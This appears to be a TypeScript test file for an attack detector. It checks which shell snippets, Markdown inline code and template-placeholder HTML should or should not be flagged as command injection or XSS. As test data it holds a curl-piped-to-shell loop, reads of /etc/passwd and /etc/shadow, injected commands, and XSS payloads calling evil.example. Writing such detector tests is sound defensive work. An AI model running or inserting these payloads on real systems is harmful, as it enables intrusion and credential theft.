/**
 * The fifth rce round (docs/detection.md, "The rce language round, fifth session (branch
 * i18-rce5)"): shown scripts and prose about commands made quiet, and command forms read from the
 * grammar of the program that runs them. Each class beside the look-alikes that must stay as they are.
 */
import { AttackDetector } from '../../../node/analysis/attacks';
import { exampleTable, RELAXED } from './helpers';

const detector = new AttackDetector(RELAXED);

// A shown script's own steps (a loop body given options or counts, a profile's lines after its
// `export`): quiet as rce. The same steps outside a shown script, or with what an attack needs
// (a probe alone, a system file, a fetch piped to a shell): still rce.
exampleTable(
  detector,
  [
    ['rce', ';sleep 5'],
    ['rce', 'while true; do id; done'],
    ['rce', 'while true; do curl http://dl.example.net/a.sh | sh; done'],
    ['rce', 'for f in *.log; do cat /etc/passwd; done'],
    ['rce', 'export PATH=/tmp:$PATH\ncat /etc/shadow'],
    ['rce', 'export X=1\nwhoami'],
  ],
  [
    'while true; do date; sleep 1; done',
    'for f in *.log; do gzip -9 "$f"; done',
    'while true; do sleep 0.5; done',
    'export PATH=/usr/local/bin:$PATH\nnode -v',
  ],
  ['q', 'json', 'form'],
  ['rce'],
);

// A program named as Markdown's inline code in a short sentence (a word of prose before it, text
// after it): quiet as rce. A substitution alone, after a command, glued to a word or ending the
// value: still rce.
exampleTable(
  detector,
  [
    ['rce', '`id`'],
    ['rce', 'x `id`'],
    ['rce', 'echo `id` x'],
    ['rce', 'a`id`b'],
    ['rce', ';`whoami`'],
  ],
  ['use `ls` to list files', 'You can use `ls` to list the files', 'try `pwd` now'],
  ['q', 'json', 'form'],
  ['rce'],
);

// An element whose links are a server template's placeholders (template source shown as text):
// quiet as xss. A link to another host, a script file, a handler or srcdoc beside a placeholder:
// still xss.
exampleTable(
  detector,
  [
    ['xss', '<link rel=stylesheet href=//evil.example/x.css>'],
    ['xss', '<link href="xss.js" rel=stylesheet type="text/javascript">'],
    ['xss', '<link href="{{ x }}" onload="alert(1)">'],
    ['xss', '<iframe src="{{ url }}" srcdoc="<script>alert(1)</script>">'],
    ['xss', '<link href="{{ a }}" rel=import href="//evil.example/x">'],
  ],
  [
    '<link href="{{ asset(\'app.css\') }}">',
    '<link href="{{ asset(\'app.css\') }}" rel="stylesheet">',
    '<link rel="stylesheet" href="{% static \'site.css\' %}">',
  ],
  ['q', 'json', 'form'],
  ['xss'],
);
